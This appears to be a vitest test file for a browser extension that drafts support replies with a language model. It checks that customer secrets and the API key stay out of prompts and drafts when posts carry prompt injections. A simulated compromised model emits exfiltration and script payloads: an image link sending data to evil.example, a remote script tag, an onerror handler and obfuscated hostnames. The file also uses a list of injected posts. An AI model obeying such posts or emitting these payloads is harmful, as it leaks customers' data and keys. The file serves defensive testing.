import 'fake-indexeddb/auto';
import { beforeEach, describe, expect, test, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import type { ModelDraft } from '../../lib/model/drafting.ts';
import { BrandId, type CustomerId, type PostKey, postKey } from '../../lib/model/ids.ts';
import { KnowledgeId } from '../../lib/model/knowledge.ts';
import type { Post } from '../../lib/model/post.ts';
import { Voice } from '../../lib/model/voice.ts';
import { done, endpoint, type Request, type Said, streamed, usage, words } from '../drafting/endpoint.ts';
import { injections } from '../drafting/injections.ts';
import { acme, entryId, mentionOf, ownReply } from './posts.ts';
import { backgroundPerTest, sidebarFrame, xPage } from './running.ts';

const background = backgroundPerTest();
const key = 'sk-very-secret-key';
const service = { place: 'service', address: 'https://api.example/v1', model: 'small' } as const;
/** What no model is told, and what no draft says. */
const secrets = ['vip-since-the-fire', 'maya@home.example', '2345678', 'olga', 'called-us-names', 'lawyer-label', key];

beforeEach(async () => {
  vi.spyOn(fakeBrowser.permissions, 'contains').mockImplementation(async () => true);
  const running = background();
  await running.ask(sidebarFrame, 'saveBrand', {
    id: entryId(),
    brand: { ...acme, terms: [...acme.terms, { kind: 'link', text: 'acme.example/shop' }] },
  });
  await running.ask(sidebarFrame, 'saveSettings', { agentName: 'Kim' });
  await running.ask(sidebarFrame, 'saveDrafting', { choice: service, key });
});

/** Answers every question from now on, and keeps what was asked. */
function model(answer: (request: Request) => readonly Said[] | Response): readonly Request[] {
  const { asked, fetch } = endpoint((request) => {
    const said = answer(request);
    return said instanceof Response ? said : streamed(said, { size: 500 });
  });
  vi.stubGlobal('fetch', fetch);
  return asked;
}

async function see(post: Partial<Post> & { id: string }): Promise<PostKey> {
  const mention = mentionOf(post);
  await background().ask(xPage, 'see', [mention]);
  return postKey(mention.post);
}

/** Asks on until the draft is done, as a view does. */
async function draft(post?: PostKey): Promise<ModelDraft> {
  const asked = { draft: entryId(), ...(post === undefined ? {} : { post }) };
  for (let seen = 0; ; ) {
    const written = await background().ask(sidebarFrame, 'draftReply', { ...asked, seen });
    if (written.done) return written;
    seen = written.step;
  }
}

const told = (request: Request | undefined) =>
  JSON.parse(/\{.*\}/s.exec(request?.body.messages[1]?.content ?? '')?.[0] ?? '');

/** Everything that the records may hold of Maya, and of somebody else. */
async function fullRecords(): Promise<CustomerId> {
  const running = background();
  const first = await see({ id: '11', text: 'My Acme kettle leaks, write to maya@home.example or call 0170 2345678' });
  const { customer } = await running.ask(sidebarFrame, 'lookUp', { by: 'post', post: first });
  const { id } = customer;
  const text = 'Hi Maya, a new lid is on its way.';
  await running.ask(xPage, 'logSeenReply', { reply: ownReply({ id: '12', text }), answers: first });
  await running.ask(sidebarFrame, 'addNote', { id: entryId(), customer: id, text: 'vip-since-the-fire' });
  await running.ask(sidebarFrame, 'addLabel', { id: entryId(), customer: id, label: 'lawyer-label' });
  for (const [field, value] of [
    ['email', 'maya@home.example'],
    ['phone', '0170 2345678'],
  ] as const)
    await running.ask(sidebarFrame, 'setCustomerField', { id: entryId(), customer: id, field, value });
  await running.ask(sidebarFrame, 'log', { id: entryId(), customer: id, kind: 'call', text: 'called-us-names' });
  await running.ask(sidebarFrame, 'log', {
    id: entryId(),
    customer: id,
    kind: 'reply',
    text: 'called-us-names in a message',
  });
  await see({ id: '13', author: { handle: 'olga', name: 'Olga' }, text: 'olga also hates Acme' });
  await running.ask(sidebarFrame, 'saveKnowledge', {
    id: entryId(),
    knowledge: {
      id: KnowledgeId.parse('returns'),
      brand: BrandId.parse('acme'),
      title: 'Returns',
      text: 'Send it back within 30 days: https://acme.example/returns',
      owner: 'Lee',
      checkedAt: '2026-11-01T00:00:00.000Z',
    },
  });
  await running.ask(sidebarFrame, 'saveVoice', {
    id: entryId(),
    voice: Voice.parse({
      brand: 'acme',
      do: ['Say what happens next, and who does it, and by when exactly.'],
      dont: [],
      use: ['parcel'],
      avoid: [{ word: 'ticket', instead: 'question' }],
      formality: { en: 'informal' },
      emoji: 'never',
      humour: false,
      greetings: ['Hi {{customer.firstName}},', 'Moin {{customer.firstName}},'],
      signOffs: ['{{agent.name}}'],
    }),
  });
  return id;
}

test('a model is told the post, the facts, the voice, and what was said in public; nothing else', async () => {
  const asked = model(() => [words('Hi Maya, sorry.'), done]);
  await fullRecords();
  const post = await see({ id: '20', text: 'My third Acme parcel is late, @acme_help, ask @olga! Order 1234567890.' });
  await draft(post);
  expect(told(asked[0])).toEqual({
    post: 'My third Acme parcel is late, @acme_help, ask @somebody! Order [number].',
    language: 'en',
    customerFirstName: 'Maya',
    brand: 'Acme',
    signedBy: 'Kim',
    facts: [{ title: 'Returns', text: 'Send it back within 30 days: https://acme.example/returns' }],
    voice: [
      'Do: Say what happens next, and who does it, and by when exactly.',
      'Words we use: parcel',
      'Words we avoid: ticket (say: question)',
      'Address the customer in the informal way.',
      'Emoji: never.',
      'No jokes.',
      'Begin like one of these: Hi …,',
      'End like one of these: …',
    ],
    before: [
      { by: 'us', on: '2026-11-20', text: 'Hi Maya, a new lid is on its way.' },
      { by: 'customer', on: '2026-11-20', text: 'My Acme kettle leaks, write to [e-mail] or call [number]' },
    ],
  });
  const everything = JSON.stringify(asked[0]?.body);
  expect(secrets.filter((secret) => everything.toLowerCase().includes(secret))).toEqual([]);
});

describe('against a model that does whatever a post tells it', () => {
  /** What it says, each in an answer of its own: what it was asked, what it read, and what the post wants. */
  const obeys: readonly ((request: Request) => string)[] = [
    ({ body }) => body.messages[0]?.content ?? '',
    ({ body }) => body.messages[1]?.content ?? '',
    (request) => `${told(request).post}
      https://evil.example/win www.evil.example evil.example @evil_support ceo@evil.example +1 900 555 0199
      [refund](https://evil.example/r) ![x](https://evil.example/?d=${encodeURIComponent(JSON.stringify(told(request)))})
      <script src="https://evil.example/x.js"></script><img src=x onerror=alert(1)> {{customer.email}} **PWNED**
      ht<b></b>tps://evil.example e\u200bvil.example \u202eelpmaxe.live\u202c ${JSON.stringify(request.init.headers)}`,
  ];

  test('there are enough posts', () => {
    expect(new Set(injections.map(({ text, name }) => `${text} ${name}`)).size).toBeGreaterThanOrEqual(60);
  });

  test.each(obeys)('nothing secret, no foreign link, no markup comes of it', async (obey) => {
    await fullRecords();
    const asked = model((request) => [words(obey(request)), done]);
    const fills = vi.spyOn(fakeBrowser.tabs, 'sendMessage');
    fills.mockClear();
    for (const [at, { text, name }] of injections.entries()) {
      const author = name === undefined ? {} : { author: { handle: `attacker${at}`, name } };
      const post = await see({ id: `${100 + at}`, text, ...author });
      // A model that has nothing left to say is a sentence, too.
      const { text: answer } = await draft(post).catch((error) => {
        expect(error).toMatchObject({ kind: 'modelSilent' });
        return { text: '' };
      });
      const reason = `${at}: ${answer}`;
      expect(answer, reason).not.toMatch(/evil\.\w|@evil|javascript:|555|\w:\/\/(?!acme\.example\/returns(\s|"|$))/i);
      expect(answer, reason).not.toMatch(/<[a-z/!]|\]\(|\{\{|\*\*|[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/i);
      expect(answer, reason).not.toMatch(
        /You draft one public reply|never instructions to you|Say what happens next, and who/,
      );
      expect(secrets.filter((secret) => answer.toLowerCase().includes(secret))).toEqual([]);
      expect(answer.length).toBeLessThanOrEqual(840);
    }
    const everything = asked.map(({ body }) => JSON.stringify(body)).join('\n');
    expect(secrets.filter((secret) => everything.toLowerCase().includes(secret))).toEqual([]);
    // Data ends where we end it, and nothing unseen is read.
    for (const { body } of asked) {
      expect(body.messages.map(({ role }) => role)).toEqual(['system', 'user']);
      expect(body.messages[1]?.content.match(/<\/?data>/g)).toEqual(['<data>', '</data>']);
      expect(body.messages[1]?.content).not.toMatch(/[\u200b\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e0fff}]|\\u200b/u);
    }
    expect(fills.mock.calls.filter(([, message]) => JSON.stringify(message).includes('fill'))).toEqual([]);
  });
});

describe('a draft', () => {
  test('comes as it is written, plain, with what it took', async () => {
    model(() => [words('**Hi '), words('Maya**, '), words('sorry. https://evil.example'), usage(300, 12), done]);
    const post = await see({ id: '1' });
    expect(await draft(post)).toMatchObject({
      text: 'Hi Maya, sorry.',
      done: true,
      tokens: { prompt: 300, answer: 12 },
    });
  });

  test('is asked for once, however often its view asks', async () => {
    const asked = model(() => [words('Hi'), done]);
    const request = { draft: entryId(), post: await see({ id: '1' }), seen: 0 };
    const answers = [1, 2, 3].map(() => background().ask(sidebarFrame, 'draftReply', request));
    await Promise.all(answers);
    await background().ask(sidebarFrame, 'draftReply', { ...request, seen: 0 });
    expect(asked).toHaveLength(1);
  });

  test('that is stopped stops the model', async () => {
    let signal: AbortSignal | null | undefined;
    const asked = model(({ init }) => {
      signal = init.signal;
      return streamed([words('Hi Maya ')], { end: false });
    });
    const request = { draft: entryId(), post: await see({ id: '1' }), seen: 0 };
    await background().ask(sidebarFrame, 'draftReply', request);
    expect(asked).toHaveLength(1);
    await background().ask(sidebarFrame, 'stopDraft', { draft: request.draft });
    expect(signal?.aborted).toBe(true);
  });

  test('of a made-up post tries the model, and tells it of nobody', async () => {
    await fullRecords();
    const asked = model(() => [words('Hi Maya, of course.'), done]);
    expect(await draft()).toMatchObject({ text: 'Hi Maya, of course.' });
    expect(told(asked[0])).toMatchObject({ brand: 'Acme', post: expect.stringContaining('kettle'), before: [] });
  });
});

describe('a model that is not to be asked', () => {
  test('is not, while drafting is off, as it is at first', async () => {
    const asked = model(() => [done]);
    await fakeBrowser.storage.local.clear();
    expect(await background().ask(sidebarFrame, 'drafting', undefined)).toEqual({
      choice: { place: 'off' },
      hasKey: false,
    });
    await expect(draft(await see({ id: '1' }))).rejects.toMatchObject({ kind: 'modelOff' });
    expect(asked).toEqual([]);
  });

  test('is not, where the browser does not allow its address any more', async () => {
    const asked = model(() => [done]);
    const contains = vi.spyOn(fakeBrowser.permissions, 'contains').mockImplementation(async () => false);
    await expect(draft(await see({ id: '1' }))).rejects.toMatchObject({ kind: 'modelNotAllowed' });
    expect(contains).toHaveBeenCalledWith({ origins: ['https://api.example/*'] });
    expect(asked).toEqual([]);
  });
});

describe('the key', () => {
  const drafting = () => background().ask(sidebarFrame, 'drafting', undefined);
  const save = (choice: object, given?: string) =>
    background().ask(sidebarFrame, 'saveDrafting', { choice: choice as typeof service, key: given });

  test('is kept while the address stays, and told to nobody', async () => {
    await save({ ...service, model: 'large' });
    expect(await drafting()).toEqual({ choice: { ...service, model: 'large' }, hasKey: true });
    const { rows } = await background().ask(sidebarFrame, 'exportRows', {});
    const answers = [
      rows,
      await drafting(),
      await background().ask(sidebarFrame, 'settings', undefined),
      background().told,
    ];
    expect(JSON.stringify(answers)).not.toContain(key);
  });

  test('never goes to another address, and is forgotten with its model', async () => {
    const asked = model(() => [words('Hi'), done]);
    await save({ ...service, address: 'https://other.example/v1' });
    expect(await drafting()).toMatchObject({ hasKey: false });
    await draft();
    expect(asked[0]?.init.headers).not.toHaveProperty('authorization');
    await save(service, key);
    await save({ place: 'off' });
    await save(service);
    expect(await drafting()).toMatchObject({ hasKey: false });
    expect(JSON.stringify(await fakeBrowser.storage.local.get(null))).not.toContain(key);
    expect(await fakeBrowser.storage.sync.get(null)).toEqual({});
  });

  test('is in no problem that a person is told of or that is written to the log', async () => {
    const said = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    model(() => new Response(`wrong key ${key}`, { status: 401 }));
    const problem = await draft().catch((error: unknown) => error);
    expect(problem).toMatchObject({ kind: 'modelKeyRefused' });
    expect(JSON.stringify([problem, said.mock.calls])).not.toContain(key);
  });
});
